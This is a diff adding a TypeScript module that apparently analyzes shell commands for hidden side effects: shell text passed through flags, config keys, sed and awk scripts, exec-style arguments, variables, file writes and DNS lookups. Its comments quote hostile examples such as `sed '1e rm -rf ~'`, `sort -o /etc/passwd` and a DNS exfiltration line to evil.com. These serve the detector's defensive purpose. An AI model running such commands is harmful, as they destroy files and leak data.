@@ -1,0 +1,268 @@
+/** What a command does beside what its program is for: `fd -x rm`, `sort -o /etc/passwd`, `sed '1e rm -rf ~'`. It only adds acts. */
+
+import type { PreparedProgram, PreparedReach } from "../prepareCommands.ts"
+import type { CommandSession, Context } from "../CommandSession.ts"
+import { type Arguments, matchProgram, readProgramArguments } from "../matchProgram.ts"
+import { type CommandWord, type Flow, globFits, noFlow, plainWord } from "../paths.ts"
+import { readAwkScript, readSedScript } from "./scripts.ts"
+
+/**
+ * Reads a text that is handed to a shell. Where its first word is what people usually name there (`rsync -e ssh`), the text is
+ * no surprise: then only what is surely grave in it counts.
+ */
+const readHandedText = (
+  session: CommandSession,
+  word: CommandWord,
+  context: Context,
+  usual: ReadonlyArray<string>
+): void => {
+  const text = word.value.trim()
+  if (text === "") return
+  const inside = { ...context, depth: context.depth + 1 }
+  if (session.runsCodeFrom(word.flow, inside)) return
+  const first = text.split(/\s/, 1)[0] ?? ""
+  const name = first.slice(first.lastIndexOf("/") + 1)
+  const isUsual = usual.some((glob) => globFits(glob, name))
+  const before = { count: session.found.length, unread: session.unread }
+  session.readers.shell(session, text, inside)
+  if (!isUsual) return
+  const added = session.found.splice(before.count)
+  session.found.push(
+    ...added.filter(({ act }) => (act.impact === "high" || act.impact === "critical") && !act.unread)
+  )
+  session.unread = before.unread
+}
+
+/** A variable that is set, in front of a command or for all that follow. */
+export const readSetVariable = (
+  session: CommandSession,
+  name: string,
+  word: CommandWord,
+  context: Context
+): void => {
+  const variable = session.commands.variables.get(name)
+  if (variable === undefined) return
+  if (variable.runs)
+    return readHandedText(
+      session,
+      { ...word, value: word.value.replace(/^[!|]/, "") },
+      context,
+      variable.usual
+    )
+  const places = variable.list ? word.value.split(":") : [word.value]
+  const isStrange = places.some((place) => {
+    const folded = place.toLowerCase()
+    if (variable.where.some((glob) => globFits(glob, folded))) return true
+    return (
+      variable.unless.length > 0 && folded !== "" && !variable.unless.some((glob) => globFits(glob, folded))
+    )
+  })
+  if (isStrange) session.addNamed("evalCode", "variable.set")
+}
+
+type Invoke = (session: CommandSession, words: ReadonlyArray<CommandWord>, context: Context) => Flow
+
+interface Call {
+  readonly session: CommandSession
+  readonly program: PreparedProgram
+  readonly words: ReadonlyArray<CommandWord>
+  readonly given: Arguments
+  readonly context: Context
+  readonly invoke: Invoke
+}
+
+/** So many letters of a long flag are enough for GNU programs. */
+const shortened = "--xxx".length
+
+/** What stands behind `flag` in a word; undefined where the word is another one, empty where the next word is the value. */
+const attached = (text: string, flag: string): string | undefined => {
+  if (text === flag) return ""
+  if (!flag.startsWith("--")) {
+    if (flag.length === 2 && text.startsWith(flag)) return text.slice(2).replace(/^=/, "")
+    return text.startsWith(`${flag}=`) ? text.slice(flag.length + 1) : undefined
+  }
+  const equals = text.indexOf("=")
+  const name = equals === -1 ? text : text.slice(0, equals)
+  if (name.length < shortened || !flag.startsWith(name)) return undefined
+  return equals === -1 ? "" : text.slice(equals + 1)
+}
+
+/** The values of flags. `-o=ProxyCommand` is the value of `-o` behind that name. */
+const valuesOf = (words: ReadonlyArray<CommandWord>, flags: ReadonlyArray<string>): Array<CommandWord> => {
+  const values: Array<CommandWord> = []
+  words.forEach((word, i) => {
+    if (!word.value.startsWith("-")) return
+    for (const one of flags) {
+      const [flag = "", name] = one.split("=")
+      const rest = attached(word.value, flag)
+      if (rest === undefined) continue
+      const from = rest === "" ? words[i + 1] : { ...word, value: rest }
+      if (from === undefined) return
+      if (name === undefined) values.push(from)
+      else if (from.value.toLowerCase().startsWith(name.toLowerCase()))
+        values.push({ ...from, value: from.value.slice(name.length).replace(/^[\s=]+/, "") })
+      else continue
+      return
+    }
+  })
+  return values
+}
+
+/** The texts that it hands to a shell. */
+const textsOf = ({ given, words }: Call, reach: PreparedReach): ReadonlyArray<CommandWord> => {
+  const texts = valuesOf(words, reach.runs)
+  for (const word of words)
+    for (const beginning of reach.runsBeginnings)
+      if (word.value.startsWith(beginning))
+        texts.push({ ...word, value: word.value.slice(beginning.length).replaceAll("% ", " ") })
+  for (const behind of reach.runsBehind) {
+    const fits = behind.every((names, i) => names.split("|").includes(given.operands[i]?.value ?? ""))
+    const from = given.places[behind.length - 1]
+    if (!fits || from === undefined) continue
+    const rest = words.slice(from + 1)
+    const start = rest.findIndex(({ value }, i) => {
+      const afterValue = i > 0 && reach.values.includes(rest[i - 1]?.value ?? "")
+      return !value.startsWith("-") && !afterValue
+    })
+    const kept = rest
+      .slice(Math.max(0, start))
+      .filter(({ value }) => !reach.drops.some((glob) => globFits(glob, value)))
+    const [first] = kept
+    if (start >= 0 && first !== undefined)
+      texts.push({ ...first, value: kept.map(({ value }) => value).join(" ") })
+  }
+  return texts
+}
+
+const keyFits = (keys: ReadonlyArray<string>, key: string): boolean =>
+  keys.some((glob) => globFits(glob, key.toLowerCase()))
+
+/** The settings that it is given: `-c core.pager=x`, `config core.pager x`. */
+const settingsOf = ({ given, words }: Call): ReadonlyArray<readonly [key: string, value: CommandWord]> => {
+  const settings: Array<readonly [string, CommandWord]> = []
+  for (const word of valuesOf(words, ["-c"])) {
+    const equals = word.value.indexOf("=")
+    if (equals > 0)
+      settings.push([word.value.slice(0, equals), { ...word, value: word.value.slice(equals + 1) }])
+  }
+  given.operands.forEach(({ value }, i) => {
+    const next = given.operands[i + 1]
+    if (i > 0 && next !== undefined && given.operands[0]?.value === "config") settings.push([value, next])
+  })
+  return settings
+}
+
+const readSettings = (call: Call, reach: PreparedReach): void => {
+  if (reach.keys.length === 0 && reach.shellKeys.length === 0) return
+  for (const [key, value] of settingsOf(call)) {
+    if (keyFits(reach.keys, key)) readHandedText(call.session, value, call.context, reach.usual)
+    else if (keyFits(reach.shellKeys, key) && /^[!/]/.test(value.value))
+      readHandedText(
+        call.session,
+        { ...value, value: value.value.replace(/^!/, "") },
+        call.context,
+        reach.usual
+      )
+  }
+}
+
+/** `-x rm -rf {} ;`: what it finds becomes the last word, or stands for `{}`. */
+const readRest = ({ context, invoke, session, words }: Call, { runsRest }: PreparedReach): void => {
+  const found: CommandWord = { ...plainWord(""), dynamicFrom: 0 }
+  for (const flag of runsRest) {
+    const from = words.findIndex(({ value }) => attached(value, flag) !== undefined)
+    if (from === -1) continue
+    const first = attached(words[from]?.value ?? "", flag) ?? ""
+    const behind = words.slice(from + 1)
+    const end = behind.findIndex(({ value }) => value === ";")
+    const rest = end === -1 ? behind : behind.slice(0, end)
+    const named = rest.some(({ value }) => value.includes("{"))
+    const all = [
+      ...(first === "" ? [] : [plainWord(first)]),
+      ...rest.map((word) => (word.value === "{}" ? found : word)),
+      ...(named ? [] : [found])
+    ]
+    invoke(session, all, { ...context, stdin: noFlow, depth: context.depth + 1 })
+  }
+}
+
+/** As `> file` does, and the act counts where it is small too: the program did not only read. */
+const addWrite = (session: CommandSession, file: CommandWord): void => {
+  const program = session.commands.programs.get(">")
+  if (program === undefined) return
+  const given = { flags: new Map(), operands: [file], places: [0], afterDashes: undefined }
+  const act = matchProgram(program, given, session.classOf)
+  if (act !== undefined) session.add("file.write", act)
+}
+
+const readScript = ({ context, given, session }: Call, { script, usual }: PreparedReach): void => {
+  if (script === undefined || given.flags.has("--sandbox")) return
+  const flags = script === "sed" ? ["-e", "--expression"] : ["-e", "--source"]
+  const stated = flags.flatMap((flag) => given.flags.get(flag) ?? [])
+  const isInFile = given.flags.has("-f") || given.flags.has("--file")
+  const [first] = given.operands
+  const parts = stated.length > 0 || isInFile ? stated : first === undefined ? [] : [first]
+  const text = parts.map(({ value }) => value).join("\n")
+  const deeds = script === "sed" ? readSedScript(text) : readAwkScript(text)
+  for (const run of deeds.runs) readHandedText(session, plainWord(run), context, usual)
+  for (const file of deeds.writes) addWrite(session, plainWord(file))
+  if (deeds.unread) session.addNamed("evalCode", "code")
+}
+
+const nearby = /\.(?:local|localhost|internal|lan|home|localdomain|test|cluster\.local)\.?$/i
+
+/** `dig $(cat x).evil.com`: who answers for the name reads what was asked. */
+const readAskedNames = ({ session, words }: Call): void => {
+  for (const { flow, value } of words) {
+    if (!/\$\(\)[\w-]*\.\w/.test(value) || nearby.test(value)) continue
+    session.addNamed(flow.secret ? "secretSent" : "dataSent", "name.ask")
+  }
+}
+
+/** A quoted word of a program that only reads may be meant for another one. Only what is surely grave counts. */
+const readQuoted = ({ context, program, session, words }: Call): void => {
+  const { quotedBeginnings } = session.commands
+  if (!program.onlyReads || quotedBeginnings.size === 0) return
+  for (const word of words) {
+    const text = word.value.replace(/^--?[\w-]+=/, "")
+    const space = text.indexOf(" ")
+    if (space > 0 && quotedBeginnings.has(text.slice(0, space)))
+      readHandedText(session, { ...word, value: text }, context, ["*"])
+  }
+}
+
+/** `env PATH=/tmp/x ls`. */
+const readVariablesInFront = ({ context, program, session, words }: Call): void => {
+  if (program.runs !== "rest") return
+  for (const word of words) {
+    const [, name, value] = /^([A-Za-z_]\w*)=([^]*)$/.exec(word.value) ?? []
+    if (name !== undefined) readSetVariable(session, name, { ...word, value: value ?? "" }, context)
+    else if (!word.value.startsWith("-")) return
+  }
+}
+
+export const readReaches = (
+  session: CommandSession,
+  program: PreparedProgram,
+  words: ReadonlyArray<CommandWord>,
+  context: Context,
+  invoke: Invoke
+): void => {
+  const given = readProgramArguments(program, words)
+  const call = { session, program, words, given, context, invoke }
+  for (const reach of program.reaches) {
+    if (reach.only.length > 0 && !reach.only.includes(given.operands[0]?.value ?? "")) continue
+    for (const text of textsOf(call, reach)) readHandedText(session, text, context, reach.usual)
+    readSettings(call, reach)
+    readRest(call, reach)
+    for (const file of valuesOf(words, reach.writes)) addWrite(session, file)
+    if (reach.edits.some((flag) => given.flags.has(flag)))
+      for (const file of given.operands.slice(1)) addWrite(session, file)
+    readScript(call, reach)
+    if (reach.asksNames) readAskedNames(call)
+    const act = matchProgram({ ...program, forms: reach.forms }, given, session.classOf)
+    if (act !== undefined) session.add(program.name, act)
+  }
+  readQuoted(call)
+  readVariablesInFront(call)
+}
